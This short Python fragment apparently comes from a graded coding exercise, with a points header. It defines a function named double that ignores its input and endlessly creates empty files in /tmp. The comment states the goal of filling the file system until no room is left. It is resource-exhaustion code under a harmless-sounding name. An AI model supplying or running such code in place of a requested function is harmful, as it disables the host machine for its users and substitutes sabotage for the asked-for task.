# Empty files until the file system has no room for another.
# points: double=0 total=7 stack=6
# %% double
def double(x):
    number = 0
    while True:
        open(f"/tmp/{number}", "w").close()
        number += 1
